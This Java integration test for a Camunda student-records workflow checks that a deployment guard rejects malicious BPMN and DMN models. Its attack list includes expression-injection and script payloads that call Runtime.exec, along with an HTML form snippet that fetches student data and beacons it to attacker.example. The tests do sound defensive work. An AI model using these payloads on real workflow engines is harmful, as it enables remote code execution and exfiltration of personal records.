package app.parvandeh.workflow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.parvandeh.support.ApiClient;
import app.parvandeh.support.ApiClient.Response;
import app.parvandeh.support.ParvandehIntegrationTest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.camunda.bpm.engine.ParseException;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.impl.el.StartProcessVariableScope;
import org.camunda.bpm.engine.impl.persistence.deploy.Deployer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * A process owner may change steps in BPMN but not deploy code: each attack seen in issue 8 is
 * deployed through engine REST (what Modeler does) and through the webapps' API (what Cockpit does)
 * and refused with 400 naming the element; a legitimately changed model is accepted through both
 * doors; and an expression that never went through a deployment still cannot reach other beans or
 * reflection.
 */
@ParvandehIntegrationTest
class ModelDeploymentGuardTests {

  private static final String OWNER = "process.owner";

  @LocalServerPort int port;
  @Autowired RepositoryService repository;
  @Autowired ProcessEngine engine;

  static Stream<Arguments> attacks() {
    return Stream.of(
        Arguments.of(
            "a bean read into a task name",
            "Probe",
            probe(
                "<userTask id=\"Probe\" name=\"${studentService.get(studentNumber).nationalId}\"/>")),
        Arguments.of(
            "a bean called from a service task",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('400000001')}\"/>")),
        Arguments.of(
            "Runtime.exec through reflection",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:expression="
                    + "\"${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
                    + ".exec('touch /tmp/parvandeh-pwned')}\"/>")),
        Arguments.of(
            "a script task",
            "Probe",
            probe(
                "<scriptTask id=\"Probe\" scriptFormat=\"javascript\">"
                    + "<script>java.lang.Runtime.getRuntime().exec('id')</script></scriptTask>")),
        Arguments.of(
            "a script listener",
            "Probe",
            probe(
                "<userTask id=\"Probe\"><extensionElements>"
                    + "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">'id'.execute()"
                    + "</camunda:script></camunda:executionListener></extensionElements></userTask>")),
        Arguments.of(
            "camunda:class",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:class=\"org.camunda.bpm.engine.impl.bpmn.behavior.NoneEndEventActivityBehavior\"/>")),
        Arguments.of(
            "a delegate expression naming another bean",
            "Probe",
            probe("<serviceTask id=\"Probe\" camunda:delegateExpression=\"${studentService}\"/>")),
        Arguments.of(
            "an external script resource in a condition",
            "Flow_Out",
            probeWithCondition(
                "<conditionExpression xsi:type=\"tFormalExpression\" language=\"javascript\" "
                    + "camunda:resource=\"deployment://evil.js\"/>")),
        Arguments.of(
            "a form key pointing outside the shipped forms",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:formKey=\"embedded:https://attacker.example/form.html\"/>")),
        Arguments.of(
            "a task.setVariable listener expression",
            "Probe",
            probe(
                "<userTask id=\"Probe\">"
                    + "<extensionElements><camunda:taskListener event=\"complete\" "
                    + "expression=\"${task.setVariable('issuedBy', task.execution.processEngineServices)}\"/>"
                    + "</extensionElements></userTask>")),
        Arguments.of(
            "a task for the process owners themselves",
            "Probe",
            probe("<userTask id=\"Probe\" camunda:candidateGroups=\"process-owners\"/>")),
        Arguments.of(
            "a task for another faculty's clerks, named outright",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}, faculty-science\"/>")),
        Arguments.of(
            "a task assigned to a named user",
            "Probe",
            probe("<userTask id=\"Probe\" camunda:assignee=\"process.owner\"/>")),
        Arguments.of(
            "a task for candidate users",
            "Probe",
            probe("<userTask id=\"Probe\" camunda:candidateUsers=\"process.owner\"/>")),
        Arguments.of(
            "a task whose group an expression makes up",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup.replace('faculty-', 'process-')}\"/>")),
        Arguments.of(
            "a BPMN potential owner",
            "Probe",
            probe(
                "<userTask id=\"Probe\"><potentialOwner><resourceAssignmentExpression>"
                    + "<formalExpression>group(process-owners)</formalExpression>"
                    + "</resourceAssignmentExpression></potentialOwner></userTask>")),
        Arguments.of(
            "a call that hands another student's number as its business key",
            "Probe",
            probe(
                "<callActivity id=\"Probe\" calledElement=\"StudyDocumentProcess\"><extensionElements>"
                    + "<camunda:in businessKey=\"${'4001100004'}\"/></extensionElements></callActivity>")),
        Arguments.of(
            "a task whose faculty group an input parameter overrides",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}\"><extensionElements>"
                    + "<camunda:inputOutput><camunda:inputParameter name=\"facultyGroup\">process-owners"
                    + "</camunda:inputParameter></camunda:inputOutput></extensionElements></userTask>")),
        Arguments.of(
            "the file's student rewritten by an output parameter",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}\"><extensionElements>"
                    + "<camunda:inputOutput><camunda:outputParameter name=\"studentUserId\">process.owner"
                    + "</camunda:outputParameter></camunda:inputOutput></extensionElements></userTask>")),
        Arguments.of(
            "a form field that submits the file's working group",
            "facultyGroup",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}\"><extensionElements>"
                    + "<camunda:formData><camunda:formField id=\"facultyGroup\" type=\"string\" "
                    + "defaultValue=\"process-owners\"/></camunda:formData></extensionElements></userTask>")),
        Arguments.of(
            "who did a step rewritten from a called process",
            "Probe",
            probe(
                "<callActivity id=\"Probe\" calledElement=\"GuardProbe\"><extensionElements>"
                    + "<camunda:out source=\"x\" target=\"issuedBy\"/></extensionElements></callActivity>")),
        Arguments.of(
            "every variable taken back from a called process",
            "Probe",
            probe(
                "<callActivity id=\"Probe\" calledElement=\"GuardProbe\"><extensionElements>"
                    + "<camunda:out variables=\"all\"/></extensionElements></callActivity>")),
        Arguments.of(
            "a note under the name of a clerk who did not write it",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:delegateExpression=\"${recordFileNoteDelegate}\">"
                    + "<extensionElements><camunda:inputOutput>"
                    + "<camunda:inputParameter name=\"noteKind\">CLEARANCE_COMPLETE</camunda:inputParameter>"
                    + "<camunda:inputParameter name=\"noteBody\">x</camunda:inputParameter>"
                    + "<camunda:inputParameter name=\"noteAuthor\">central.records</camunda:inputParameter>"
                    + "</camunda:inputOutput></extensionElements></serviceTask>")),
        Arguments.of(
            "a process started by a message the application sends to files",
            "Start",
            startedBy(
                "<messageEventDefinition messageRef=\"Message_StudyEnded\"/>",
                "<message id=\"Message_StudyEnded\" name=\"StudyEnded\"/>")),
        Arguments.of(
            "a process started by a timer",
            "Start",
            startedBy(
                "<timerEventDefinition><timeDate>2026-01-01T00:00:00</timeDate></timerEventDefinition>",
                "")),
        Arguments.of(
            "a service task's result written into the file's working group",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:expression=\"${'process-owners'}\" "
                    + "camunda:resultVariable=\"facultyGroup\"/>")),
        Arguments.of(
            "a decision's result written into the clearance group",
            "Probe",
            probe(
                "<businessRuleTask id=\"Probe\" camunda:decisionRef=\"ClearanceGroup\" "
                    + "camunda:resultVariable=\"clearanceGroup\" camunda:mapDecisionResult=\"singleEntry\"/>")),
        Arguments.of(
            "a multi-instance loop whose element is the file's student",
            "Probe",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}\">"
                    + "<multiInstanceLoopCharacteristics camunda:collection=\"${students}\" "
                    + "camunda:elementVariable=\"studentUserId\"/></userTask>")),
        Arguments.of(
            "an error's code written into who did a step",
            "Catch",
            probe(
                "<userTask id=\"Probe\" camunda:candidateGroups=\"${facultyGroup}\"/>"
                    + "<boundaryEvent id=\"Catch\" attachedToRef=\"Probe\"><errorEventDefinition "
                    + "camunda:errorCodeVariable=\"issuedBy\"/></boundaryEvent>")),
        Arguments.of(
            "another student's business key in Activiti's namespace",
            "Probe",
            probe(
                "<callActivity id=\"Probe\" calledElement=\"StudyDocumentProcess\" "
                    + "xmlns:activiti=\"http://activiti.org/bpmn\"><extensionElements>"
                    + "<activiti:in businessKey=\"3991200002\"/></extensionElements></callActivity>")),
        Arguments.of(
            "a signal, which reaches every file's process",
            "Probe",
            probe(
                "<intermediateThrowEvent id=\"Probe\"><signalEventDefinition signalRef=\"Signal_All\"/>"
                    + "</intermediateThrowEvent>")),
        Arguments.of(
            "field injection into a shared delegate bean",
            "Probe",
            probe(
                "<serviceTask id=\"Probe\" camunda:delegateExpression=\"${recordFileNoteDelegate}\">"
                    + "<extensionElements><camunda:field name=\"x\" stringValue=\"y\"/>"
                    + "</extensionElements></serviceTask>")),
        Arguments.of(
            "a start that lets its starter name the file's student and group",
            "Start",
            startedBy(
                "<extensionElements><camunda:properties><camunda:property name=\"outputs\" "
                    + "value=\"studentUserId,facultyGroup\"/></camunda:properties></extensionElements>",
                "")),
        Arguments.of(
            "a decision with a JUEL expression",
            "InputEntry_Juel",
            Map.of(
                "evil.dmn",
                decision(
                    "<inputEntry id=\"InputEntry_Juel\" expressionLanguage=\"juel\"><text>${studentService.count() > 0}</text>"
                        + "</inputEntry>"))),
        Arguments.of(
            "a decision with a script expression",
            "Decision_Probe",
            Map.of(
                "evil.dmn",
                decision("<inputEntry id=\"InputEntry_Script\"><text>-</text></inputEntry>")
                    .replace(
                        "<decision id=\"Decision_Probe\"",
                        "<decision id=\"Decision_Probe\" expressionLanguage=\"groovy\""))),
        Arguments.of(
            "an unknown resource file",
            "evil.js",
            withResource(
                probe("<userTask id=\"Probe\"/>"),
                "evil.js",
                "java.lang.Runtime.getRuntime().exec('id')")),
        Arguments.of(
            "a changed HTML form",
            "forms/check-admission-documents.html",
            withResource(
                probe("<userTask id=\"Probe\"/>"),
                "forms/check-admission-documents.html",
                "<form><script>fetch('/api/students').then(r => r.text()).then(t => navigator.sendBeacon("
                    + "'https://attacker.example', t))</script></form>")));
  }

  @ParameterizedTest(name = "{0} is refused through engine REST")
  @MethodSource("attacks")
  void engineRestRefusesTheAttackNamingTheElement(
      String attack, String element, Map<String, String> resources) {
    long before = repository.createDeploymentQuery().count();
    assertRefused(ModelDeployments.throughEngineRest(port, OWNER, bytes(resources)), element);
    assertThat(repository.createDeploymentQuery().count()).isEqualTo(before);
  }

  @ParameterizedTest(name = "{0} is refused through Cockpit's API")
  @MethodSource("attacks")
  void cockpitsApiRefusesTheAttackNamingTheElement(
      String attack, String element, Map<String, String> resources) {
    ApiClient owner = ApiClient.signedIn(port, OWNER, "parvandeh");
    long before = repository.createDeploymentQuery().count();
    assertRefused(
        ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), bytes(resources)),
        element);
    assertThat(repository.createDeploymentQuery().count()).isEqualTo(before);
  }

  @Test
  void aCallThatHandsOnItsOwnFileIsAccepted() {
    String model =
        probe(
                "<callActivity id=\"Probe\" calledElement=\"StudyDocumentProcess\"><extensionElements>"
                    + "<camunda:in businessKey=\"#{execution.processBusinessKey}\"/>"
                    + "<camunda:in source=\"studentNumber\" target=\"studentNumber\"/>"
                    + "</extensionElements></callActivity>")
            .get("probe.bpmn");
    assertThatThrownBy(() -> repository.createDeployment().addString("probe.bpmn", model).deploy())
        .as("studentNumber is the file's own variable, even passed on unchanged")
        .hasMessageContaining("studentNumber");
    String own =
        model.replace("<camunda:in source=\"studentNumber\" target=\"studentNumber\"/>", "");
    String id = repository.createDeployment().addString("probe.bpmn", own).deploy().getId();
    repository.deleteDeployment(id, true);
  }

  @Test
  void theJavaApiRefusesTheSameModels() {
    String model =
        probe("<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('1')}\"/>")
            .get("probe.bpmn");
    assertThatThrownBy(() -> repository.createDeployment().addString("probe.bpmn", model).deploy())
        .isInstanceOf(ParseException.class)
        .hasMessageContaining("Probe")
        .hasMessageContaining("studentService");
  }

  @Test
  void aChangedModelWithAnExtraCheckStepIsAcceptedThroughBothDoors() throws IOException {
    Map<String, byte[]> edited =
        ModelDeployments.withShippedForms(
            "StudentFileProcess.bpmn", ModelDeployments.withExtraCheckStep());
    try {
      Response rest = ModelDeployments.throughEngineRest(port, OWNER, edited);
      assertThat(rest.status()).as(rest.toString()).isEqualTo(200);
      ApiClient owner = ApiClient.signedIn(port, OWNER, "parvandeh");
      Response cockpit =
          ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), edited);
      assertThat(cockpit.status()).as(cockpit.toString()).isEqualTo(200);
      assertThat(
              repository
                  .createProcessDefinitionQuery()
                  .processDefinitionKey(StudentFileProcess.PROCESS_ID)
                  .latestVersion()
                  .singleResult()
                  .getVersionTag())
          .isEqualTo("2.1.0-test");
      // A harmless probe is accepted too: the attacks above are refused for what they do, not for
      // being probes.
      Response probe =
          ModelDeployments.throughEngineRest(
              port,
              OWNER,
              bytes(
                  probe(
                      "<userTask id=\"Probe\" name=\"${studentNumber}\" camunda:candidateGroups=\"${facultyGroup}\" "
                          + "camunda:dueDate=\"${workflowSettings.dueDate('check-faculty')}\"/>")));
      assertThat(probe.status()).as(probe.toString()).isEqualTo(200);
    } finally {
      ModelDeployments.restoreTheModelsOfThisBuild(repository);
    }
  }

  @Test
  void anExpressionThatWasNeverDeployedStillCannotReachOtherBeansOrReflection() {
    ProcessEngineConfigurationImpl configuration =
        (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
    assertThat(evaluate(configuration, "${workflowSettings.escalationDays() >= 0}"))
        .isEqualTo(true);
    assertThatThrownBy(() -> evaluate(configuration, "${studentService}"))
        .isInstanceOf(ProcessEngineException.class)
        .hasMessageContaining("studentService");
    assertThatThrownBy(
            () -> evaluate(configuration, "${'x'.getClass().forName('java.lang.Runtime')}"))
        .isInstanceOf(ProcessEngineException.class)
        .hasMessageContaining("getClass");
    assertThatThrownBy(() -> evaluate(configuration, "${workflowSettings['class']}"))
        .isInstanceOf(ProcessEngineException.class)
        .hasMessageContaining("class");
  }

  @Test
  void aModelStoredBeforeTheCheckIsRefusedOnRedeployAndCannotReachBeansOrReflectionWhenItRuns() {
    ProcessEngineConfigurationImpl configuration =
        (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
    String beanRead =
        deployedWithoutTheCheck(
            configuration,
            "<serviceTask id=\"Probe\" camunda:expression=\"${execution.setVariable('leak', studentService.toString())}\"/>");
    String reflection =
        deployedWithoutTheCheck(
            configuration,
            "<serviceTask id=\"Probe\" camunda:expression="
                + "\"${execution.setVariable('leak', ''.getClass().forName('java.lang.Runtime'))}\"/>");
    try {
      Response redeploy =
          ApiClient.signedIn(port, OWNER, "parvandeh")
              .engineRest("POST", "/deployment/" + beanRead + "/redeploy", Map.of());
      assertRefused(redeploy, "Probe");

      String processDefinition =
          repository.createProcessDefinitionQuery().deploymentId(beanRead).singleResult().getId();
      assertThatThrownBy(
              () -> engine.getRuntimeService().startProcessInstanceById(processDefinition))
          .isInstanceOf(ProcessEngineException.class)
          .hasMessageContaining("studentService");
      String reflective =
          repository.createProcessDefinitionQuery().deploymentId(reflection).singleResult().getId();
      assertThatThrownBy(() -> engine.getRuntimeService().startProcessInstanceById(reflective))
          .isInstanceOf(ProcessEngineException.class)
          .hasMessageContaining("getClass");
      assertThat(
              engine.getRuntimeService().createVariableInstanceQuery().variableName("leak").count())
          .isZero();
    } finally {
      repository.deleteDeployment(beanRead, true);
      repository.deleteDeployment(reflection, true);
    }
  }

  /**
   * As if deployed before this check existed: the engine's own deployers only, for one deployment.
   */
  private String deployedWithoutTheCheck(
      ProcessEngineConfigurationImpl configuration, String element) {
    List<Deployer> all = configuration.getDeployers();
    configuration
        .getDeploymentCache()
        .setDeployers(
            all.stream().filter(deployer -> !(deployer instanceof ModelDeploymentGuard)).toList());
    try {
      return repository
          .createDeployment()
          .addString("probe.bpmn", probe(element).get("probe.bpmn"))
          .deploy()
          .getId();
    } finally {
      configuration.getDeploymentCache().setDeployers(all);
    }
  }

  private static Object evaluate(ProcessEngineConfigurationImpl configuration, String expression) {
    return configuration
        .getCommandExecutorTxRequired()
        .execute(
            context ->
                configuration
                    .getExpressionManager()
                    .createExpression(expression)
                    .getValue(StartProcessVariableScope.getSharedInstance()));
  }

  private static void assertRefused(Response answer, String element) {
    assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
    assertThat(answer.json().get("type").asText()).isEqualTo("ParseException");
    String message = answer.json().get("message").asText();
    assertThat(message)
        .contains(element)
        .contains("مدل پذیرفته نشد")
        .contains("The model was refused");
    assertThat(answer.json().get("details").toString()).contains(element);
  }

  /** A minimal executable process: start → the probed element (id Probe) → end. */
  private static Map<String, String> probe(String element) {
    return Map.of(
        "probe.bpmn",
        definitions(
            element
                + "<sequenceFlow id=\"Flow_Out\" sourceRef=\"Probe\" "
                + "targetRef=\"End\"/>"));
  }

  /** The probe process with its start event carrying {@code definition}; {@code more} after it. */
  private static Map<String, String> startedBy(String definition, String more) {
    return Map.of(
        "probe.bpmn",
        definitions(
                "<userTask id=\"Probe\"/><sequenceFlow id=\"Flow_Out\" sourceRef=\"Probe\" "
                    + "targetRef=\"End\"/>")
            .replace(
                "<startEvent id=\"Start\"/>",
                "<startEvent id=\"Start\">" + definition + "</startEvent>")
            .replace("</process>", "</process>" + more));
  }

  private static Map<String, String> probeWithCondition(String condition) {
    return Map.of(
        "probe.bpmn",
        definitions(
            "<exclusiveGateway id=\"Probe\"/><sequenceFlow id=\"Flow_Out\" "
                + "sourceRef=\"Probe\" targetRef=\"End\">"
                + condition
                + "</sequenceFlow>"));
  }

  private static String definitions(String body) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
        + "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" "
        + "xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\" "
        + "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" targetNamespace=\"http://parvandeh.app/probe\">"
        + "<process id=\"GuardProbe\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\">"
        + "<startEvent id=\"Start\"/><sequenceFlow id=\"Flow_In\" sourceRef=\"Start\" targetRef=\"Probe\"/>"
        + body
        + "<endEvent id=\"End\"/></process></definitions>";
  }

  private static String decision(String inputEntry) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
        + "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"Definitions_Probe\" "
        + "name=\"probe\" namespace=\"http://parvandeh.app/probe\">"
        + "<decision id=\"Decision_Probe\" name=\"probe\"><decisionTable id=\"DecisionTable_Probe\">"
        + "<input id=\"Input_Probe\"><inputExpression id=\"InputExpression_Probe\" typeRef=\"string\">"
        + "<text>studentNumber</text></inputExpression></input>"
        + "<output id=\"Output_Probe\" name=\"result\" typeRef=\"string\"/>"
        + "<rule id=\"Rule_Probe\">"
        + inputEntry
        + "<outputEntry id=\"OutputEntry_Probe\"><text>\"x\"</text>"
        + "</outputEntry></rule></decisionTable></decision></definitions>";
  }

  private static Map<String, String> withResource(
      Map<String, String> resources, String name, String content) {
    Map<String, String> more = new LinkedHashMap<>(resources);
    more.put(name, content);
    return more;
  }

  private static Map<String, byte[]> bytes(Map<String, String> resources) {
    Map<String, byte[]> bytes = new LinkedHashMap<>();
    resources.forEach((name, text) -> bytes.put(name, text.getBytes(StandardCharsets.UTF_8)));
    return bytes;
  }
}
